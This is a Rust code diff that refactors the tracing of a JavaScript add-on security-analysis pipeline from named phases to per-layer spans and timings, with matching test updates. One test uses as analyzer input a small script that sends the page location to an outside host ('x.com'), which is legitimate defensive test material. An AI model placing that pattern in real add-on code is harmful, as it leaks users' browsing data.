@@ -45,16 +45,16 @@
 //!
 //! Non-default runs go through [`Pipeline`], which owns the knobs that
 //! used to be loose function parameters. Every run is measured in one
-//! place: the phases report spans, counters and (under
-//! [`Pipeline::profile`]) cost buckets through one [`sigtrace::Trace`]
-//! handle to the pipeline's recorder, which derives [`Report::timings`]
-//! from the phase spans and forwards spans and counters to an optional
-//! caller's [`sigtrace::Tracer`]:
+//! place: the pipeline's eight [`sigtrace::Layer`]s report spans,
+//! counters and (under [`Pipeline::profile`]) cost buckets through one
+//! [`sigtrace::Trace`] handle to the pipeline's recorder, which fills
+//! [`Report::timings`] from the layer spans and forwards spans and
+//! counters to an optional caller's [`sigtrace::Tracer`]:
 //!
 //! ```
 //! use addon_sig::Pipeline;
 //! use jsanalysis::AnalysisConfig;
-//! use sigtrace::SpanCollector;
+//! use sigtrace::{Layer, SpanCollector};
 //!
 //! let mut spans = SpanCollector::new();
 //! let report = Pipeline::new()
@@ -62,7 +62,8 @@
 //!     .tracer(&mut spans)
 //!     .run("var x = 1;")?;
 //! assert!(report.counters.get(sigtrace::Counter::WorklistSteps) > 0);
-//! assert!(spans.spans().iter().any(|s| s.name == "phase1"));
+//! assert!(spans.spans().iter().any(|s| s.layer == Layer::Fixpoint));
+//! assert!(report.timings.get(Layer::Fixpoint).is_some());
 //! # Ok::<(), addon_sig::Error>(())
 //! ```
 
@@ -86,11 +87,10 @@ use jsir::Lowered;
 use jspdg::Pdg;
 use jssig::{FlowLattice, Signature};
 use sigtrace::{
-    AttributionSink, Counters, JobProfile, MetricsRegistry, PhaseTimings, SpanCollector, Trace,
-    Tracer,
+    AttributionSink, Counters, JobProfile, Layer, LayerTimes, MetricsRegistry, Trace, Tracer,
 };
 use std::fmt;
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 /// Errors surfaced by the pipeline.
 ///
@@ -154,8 +154,8 @@ impl From<jsparser::ParseError> for Error {
 }
 
 /// Everything the pipeline produced, including intermediate artifacts,
-/// the per-phase timings reported in the paper's Table 2, and the
-/// pipeline counters (deterministic work measures; see [`sigtrace`]).
+/// the per-layer timings (summed into the paper's Table 2 phases), and
+/// the pipeline counters (deterministic work measures; see [`sigtrace`]).
 pub struct Report {
     /// The lowered program and CFG.
     pub lowered: Lowered,
@@ -166,21 +166,21 @@ pub struct Report {
     pub pdg: Pdg,
     /// The inferred security signature.
     pub signature: Signature,
-    /// Per-phase wall times (phase 1 = base analysis, phase 2 = PDG
-    /// construction, phase 3 = signature inference): the durations of
-    /// the run's top-level `phase1` / `phase2` / `phase3` spans.
-    pub timings: PhaseTimings,
+    /// Per-layer wall times: the durations of the run's layer spans.
+    /// [`LayerTimes::phase`] sums them into the paper's phases (1 =
+    /// base analysis, 2 = PDG construction, 3 = signature inference).
+    pub timings: LayerTimes,
     /// Pipeline work counters, collected whether or not a tracer was
     /// attached. Deterministic for a fixed source and configuration.
     pub counters: Counters,
     /// Whether triage skipped phase 2: [`AnalysisConfig::triage`] was on
     /// and phase 1 proved no flow entry can exist
     /// ([`jssig::flows_impossible`]). The signature is the same either
-    /// way; only the PDG and its phase time are missing.
+    /// way; only the PDG and its layer times are missing.
     pub triaged: bool,
-    /// Per-job cost attribution (which functions, context depths and
-    /// phases ate the budget), when [`Pipeline::profile`] was enabled;
-    /// `None` otherwise.
+    /// Per-job cost attribution (which functions and context depths ate
+    /// the budget), when [`Pipeline::profile`] was enabled; `None`
+    /// otherwise.
     pub profile: Option<JobProfile>,
 }
 
@@ -189,10 +189,9 @@ pub struct Report {
 /// `Pipeline::new().config(cfg).lattice(l).tracer(&mut t).run(src)`
 ///
 /// Each setter consumes and returns the builder. [`Pipeline::run`]
-/// executes parse → lower → phase 1 → phase 2 → phase 3, emitting one
-/// span per stage (plus the phases' own sub-spans) to the attached
-/// tracer and collecting the pipeline counters and phase times either
-/// way.
+/// executes the layers in [`Layer::ALL`] order, emitting one flat span
+/// per layer to the attached tracer and collecting the pipeline
+/// counters and layer times either way.
 #[must_use = "a Pipeline does nothing until .run(source)"]
 pub struct Pipeline<'t> {
     config: AnalysisConfig,
@@ -233,7 +232,7 @@ impl<'t> Pipeline<'t> {
         self
     }
 
-    /// Attaches a tracer: every phase reports spans and counters to it.
+    /// Attaches a tracer: every layer reports spans and counters to it.
     /// The returned builder borrows the tracer until [`Pipeline::run`].
     pub fn tracer<'u>(self, tracer: &'u mut dyn Tracer) -> Pipeline<'u> {
         Pipeline {
@@ -271,33 +270,27 @@ impl<'t> Pipeline<'t> {
             profile,
         } = self;
         let mut rec = Recorder {
-            spans: SpanCollector::new(),
+            open: None,
+            times: LayerTimes::default(),
+            counters: Counters::new(),
             costs: profile.then(AttributionSink::new),
             user: trace,
         };
 
         let mut trace = Trace::On(&mut rec);
+        let ast = trace.span(Layer::Parse, |_| jsparser::parse(source))?;
+        let lowered = trace.span(Layer::Lower, |_| jsir::lower(&ast));
+        let analysis = trace.span(Layer::Fixpoint, |t| {
+            jsanalysis::analyze_traced(&lowered, &config, t)
+        });
 
-        trace.span_start("parse");
-        let parsed = jsparser::parse(source);
-        trace.span_end("parse");
-        let ast = parsed?;
-
-        trace.span_start("lower");
-        let lowered = jsir::lower(&ast);
-        trace.span_end("lower");
-
-        trace.span_start("phase1");
-        let analysis = jsanalysis::analyze_traced(&lowered, &config, &mut trace);
-        trace.span_end("phase1");
-
-        // A budget abort carries only the phases that actually ran.
+        // A budget abort carries only the layers that actually ran.
         if let Some(b) = &analysis.budget_exhausted {
             return Err(Error::Budget {
                 kind: b.kind,
                 steps: b.steps,
                 elapsed: b.elapsed,
-                profile: rec.profile(analysis.steps, &["phase1"]).map(Box::new),
+                profile: rec.profile(analysis.steps).map(Box::new),
             });
         }
         if analysis.hit_step_limit {
@@ -305,7 +298,7 @@ impl<'t> Pipeline<'t> {
                 kind: BudgetKind::SafetyValve,
                 steps: analysis.steps,
                 elapsed: Duration::ZERO,
-                profile: rec.profile(analysis.steps, &["phase1"]).map(Box::new),
+                profile: rec.profile(analysis.steps).map(Box::new),
             });
         }
 
@@ -324,25 +317,16 @@ impl<'t> Pipeline<'t> {
         let pdg = if triaged {
             Pdg::default()
         } else {
-            trace.span_start("phase2");
-            let pdg = Pdg::build_traced(&lowered, &analysis, &mut trace);
-            trace.span_end("phase2");
-            pdg
+            Pdg::build_traced(&lowered, &analysis, &mut trace)
         };
-
-        trace.span_start("phase3");
-        let signature =
-            jssig::infer_signature_traced(&lowered, &analysis, &pdg, &lattice, &mut trace);
-        trace.span_end("phase3");
+        let signature = trace.span(Layer::Infer, |t| {
+            jssig::infer_signature_traced(&lowered, &analysis, &pdg, &lattice, t)
+        });
 
         Ok(Report {
-            timings: PhaseTimings::new(
-                rec.phase("phase1"),
-                rec.phase("phase2"),
-                rec.phase("phase3"),
-            ),
-            counters: *rec.spans.counters(),
-            profile: rec.profile(analysis.steps, &["phase1", "phase2", "phase3"]),
+            timings: rec.times,
+            counters: rec.counters,
+            profile: rec.profile(analysis.steps),
             lowered,
             analysis,
             pdg,
@@ -352,57 +336,52 @@ impl<'t> Pipeline<'t> {
     }
 }
 
-/// The one place a run is measured. Every phase reports through it: it
-/// records the run's spans (the phase times are the top-level `phase1`
-/// / `phase2` / `phase3` spans), keeps the counters and — under
-/// [`Pipeline::profile`] — the attribution buckets for the [`Report`],
-/// and forwards spans and counters to the caller's tracer. It is only
-/// touched at phase granularity, so it costs a handful of calls per
-/// addon, not per step.
+/// The one place a run is measured. Every layer reports through it: it
+/// times the run's layer spans into [`LayerTimes`], keeps the counters
+/// and — under [`Pipeline::profile`] — the attribution buckets for the
+/// [`Report`], and forwards spans and counters to the caller's tracer.
+/// It is only touched at layer granularity, so it costs a handful of
+/// calls per addon, not per step.
 struct Recorder<'a> {
-    spans: SpanCollector,
+    /// When the open layer span started (the layers never nest).
+    open: Option<Instant>,
+    times: LayerTimes,
+    counters: Counters,
     costs: Option<AttributionSink>,
     user: Trace<'a>,
 }
 
 impl Recorder<'_> {
-    /// Wall time of the top-level span `name`; zero for a phase that
-    /// never ran (phase 2 under triage).
-    fn phase(&self, name: &str) -> Duration {
-        self.spans
-            .spans()
-            .iter()
-            .find(|s| s.depth == 0 && s.name == name)
-            .map_or(Duration::ZERO, |s| s.elapsed)
-    }
-
     /// Rolls the attribution buckets into the deterministic profile,
-    /// with the wall times of `phases`; `None` unless profiling.
-    fn profile(&mut self, total_steps: usize, phases: &[&str]) -> Option<JobProfile> {
+    /// with the layer times so far; `None` unless profiling.
+    fn profile(&mut self, total_steps: usize) -> Option<JobProfile> {
         let mut profile = self.costs.take()?.into_profile(total_steps as u64);
-        profile.phases = phases
-            .iter()
-            .map(|&name| ((*name).to_owned(), micros(self.phase(name))))
-            .collect();
+        profile.layers = self.times;
         Some(profile)
     }
 }
 
 impl Tracer for Recorder<'_> {
     // The caller's hooks run outside the recorder's own clock reads, so
-    // the phase times leave out the cost of the tracer the caller asked for.
-    fn span_start(&mut self, name: &str) {
-        self.user.span_start(name);
-        self.spans.span_start(name);
+    // the layer times leave out the cost of the tracer the caller asked for.
+    fn span_start(&mut self, layer: Layer) {
+        if let Trace::On(user) = &mut self.user {
+            user.span_start(layer);
+        }
+        self.open = Some(Instant::now());
     }
 
-    fn span_end(&mut self, name: &str) {
-        self.spans.span_end(name);
-        self.user.span_end(name);
+    fn span_end(&mut self, layer: Layer) {
+        if let Some(start) = self.open.take() {
+            self.times.add(layer, start.elapsed());
+        }
+        if let Trace::On(user) = &mut self.user {
+            user.span_end(layer);
+        }
     }
 
     fn add_counters(&mut self, counters: &Counters) {
-        self.spans.add_counters(counters);
+        self.counters.merge(counters);
         self.user.add_counters(counters);
     }
 
@@ -410,15 +389,11 @@ impl Tracer for Recorder<'_> {
         self.costs.is_some()
     }
 
-    fn record_cost(&mut self, func: &str, ctx_class: u8, phase: &str, steps: u64, time_us: u64) {
+    fn record_cost(&mut self, func: &str, ctx_class: u8, steps: u64, time_us: u64) {
         if let Some(costs) = &mut self.costs {
-            costs.record(func, ctx_class, phase, steps, time_us);
+            costs.record(func, ctx_class, steps, time_us);
         }
     }
-}
-
-fn micros(d: Duration) -> u64 {
-    d.as_micros().min(u128::from(u64::MAX)) as u64
 }
 
 /// Runs the full pipeline with default configuration
@@ -462,7 +437,7 @@ pub fn profile_addon(source: &str, config: &AnalysisConfig) -> Result<JobProfile
 
 /// The full pipeline packaged for the [`sigserve`] daemon: one source,
 /// one configuration, a [`sigserve::VetOutcome`], with the run's
-/// pipeline counters and phase latencies folded into the daemon's
+/// pipeline counters and layer latencies folded into the daemon's
 /// metrics registry. Caller-imposed budget exhaustion (step budget or
 /// deadline) maps to the degraded `Timeout` outcome (the daemon answers
 /// `verdict:"timeout"` and keeps its worker); the interpreter's own
@@ -470,8 +445,8 @@ pub fn profile_addon(source: &str, config: &AnalysisConfig) -> Result<JobProfile
 /// exactly what `vet --json` prints, so service responses reproduce the
 /// CLI's bytes.
 ///
-/// `trace` reaches every pipeline phase: when the daemon's event log
-/// runs at debug level it passes a tracer here, and every phase span
+/// `trace` reaches every pipeline layer: when the daemon's event log
+/// runs at debug level it passes a tracer here, and every layer span
 /// lands in the log tagged with the owning job's request ID. This is
 /// the engine `vet serve` installs via [`sigserve::ServerBuilder::analyze`].
 pub fn service_engine(
@@ -491,30 +466,19 @@ pub fn service_engine(
     match result {
         Ok(report) => {
             metrics.merge_counters(&report.counters);
-            metrics.record("pipeline_p1_us", micros(report.timings.p1));
-            metrics.record("pipeline_p2_us", micros(report.timings.p2));
-            metrics.record("pipeline_p3_us", micros(report.timings.p3));
+            metrics.record_layers(&report.timings);
             if report.triaged {
                 metrics.add("pipeline_triaged", 1);
             }
-            match report.profile {
-                Some(profile) => sigserve::VetOutcome::report_profiled(
-                    report.signature.to_json(),
-                    report.timings,
-                    profile,
-                ),
-                None => sigserve::VetOutcome::report(report.signature.to_json(), report.timings),
-            }
+            sigserve::VetOutcome::report(report.signature.to_json(), report.timings)
+                .with_profile(report.profile)
         }
         Err(Error::Budget {
             kind: BudgetKind::Steps | BudgetKind::Deadline,
             steps,
             elapsed,
             profile,
-        }) => match profile {
-            Some(profile) => sigserve::VetOutcome::timeout_profiled(steps, elapsed, *profile),
-            None => sigserve::VetOutcome::timeout(steps, elapsed),
-        },
+        }) => sigserve::VetOutcome::timeout(steps, elapsed).with_profile(profile.map(|p| *p)),
         Err(e) => sigserve::VetOutcome::error(e.to_string()),
     }
 }
@@ -522,7 +486,7 @@ pub fn service_engine(
 #[cfg(test)]
 mod tests {
     use super::*;
-    use sigtrace::Counter;
+    use sigtrace::{Counter, SpanCollector};
 
     #[test]
     fn pipeline_runs() {
@@ -577,22 +541,29 @@ mod tests {
     }
 
     #[test]
+    fn budget_abort_profiles_only_the_layers_that_ran() {
+        let config = AnalysisConfig::default().with_step_budget(1);
+        match Pipeline::new().config(config).profile(true).run("var x = 1; var y = x;") {
+            Err(Error::Budget {
+                profile: Some(profile),
+                ..
+            }) => {
+                let ran: Vec<Layer> = profile.layers.iter().map(|(l, _)| l).collect();
+                assert_eq!(ran, [Layer::Parse, Layer::Lower, Layer::Fixpoint]);
+            }
+            other => panic!("expected a profiled Budget, got {:?}", other.map(|_| ())),
+        }
+    }
+
+    #[test]
     fn tracer_sees_phase_spans_and_counters() {
         let mut spans = SpanCollector::new();
         let report = Pipeline::new()
             .tracer(&mut spans)
             .run("var u = content.location.href; var r = XHRWrapper(\"http://x.com\"); r.send(u);")
             .unwrap();
-        for name in ["parse", "lower", "phase1", "phase2", "phase3"] {
-            assert!(
-                spans.spans().iter().any(|s| s.name == name && s.depth == 0),
-                "missing top-level span {name}"
-            );
-        }
-        // The phases' own sub-spans nest underneath.
-        assert!(spans.spans().iter().any(|s| s.name == "fixpoint"));
-        assert!(spans.spans().iter().any(|s| s.name == "ddg"));
-        assert!(spans.spans().iter().any(|s| s.name == "propagate"));
+        let shape: Vec<(Layer, usize)> = spans.spans().iter().map(|s| (s.layer, s.depth)).collect();
+        assert_eq!(shape, Layer::ALL.map(|l| (l, 0)), "one flat span per layer, in order");
         // Tracer counters and Report counters are the same totals.
         assert_eq!(spans.counters(), &report.counters);
         assert!(report.counters.get(Counter::SignatureFlows) > 0);
@@ -617,23 +588,22 @@ mod tests {
             let traced = pipeline().tracer(&mut traced_spans).run(source).unwrap();
             assert_eq!(both.triaged, triaged);
 
-            // The profile matches profiling alone, and its phase times
-            // are the Report's timings (phase 2 reads 0 when triaged).
+            // The profile matches profiling alone, and its layer times
+            // are the Report's timings (no PDG layer when triaged).
             let (bp, pp) = (both.profile.unwrap(), profiled.profile.unwrap());
             assert_eq!(bp.render_table(10), pp.render_table(10));
-            let names = |p: &JobProfile| p.phases.iter().map(|p| p.0.clone()).collect::<Vec<_>>();
-            assert_eq!(names(&bp), ["phase1", "phase2", "phase3"]);
-            assert_eq!(names(&bp), names(&pp));
-            let t = both.timings;
-            let us: Vec<u64> = bp.phases.iter().map(|p| p.1).collect();
-            assert_eq!(us, [micros(t.p1), micros(t.p2), micros(t.p3)]);
-            assert_eq!(t.p2 == Duration::ZERO, triaged);
+            let ran = |t: &LayerTimes| t.iter().map(|(l, _)| l).collect::<Vec<_>>();
+            assert_eq!(ran(&bp.layers), ran(&pp.layers));
+            assert_eq!(bp.layers, both.timings);
+            let pdg_layers = ran(&both.timings).iter().filter(|l| l.phase() == Some(2)).count();
+            assert_eq!(pdg_layers, if triaged { 0 } else { 4 });
+            assert_eq!(both.timings.phase(2) == Duration::ZERO, triaged);
 
             // The spans and counters match tracing alone.
             let shape = |c: &SpanCollector| {
                 c.spans()
                     .iter()
-                    .map(|s| (s.name.clone(), s.depth))
+                    .map(|s| (s.layer, s.depth))
                     .collect::<Vec<_>>()
             };
             assert_eq!(shape(&both_spans), shape(&traced_spans));
@@ -660,7 +630,10 @@ mod tests {
                 .any(|(name, v)| name == "pipeline_worklist_steps" && *v > 0),
             "pipeline counters folded into the registry: {snap:?}"
         );
-        assert!(snap.histograms.iter().any(|h| h.name == "pipeline_p1_us"));
+        assert!(snap
+            .histograms
+            .iter()
+            .any(|h| h.name == "pipeline_jsanalysis_fixpoint_us"));
 
         match service_engine("var = ;", &default, &metrics, Trace::Off) {
             sigserve::VetOutcome::Error { message, .. } => {
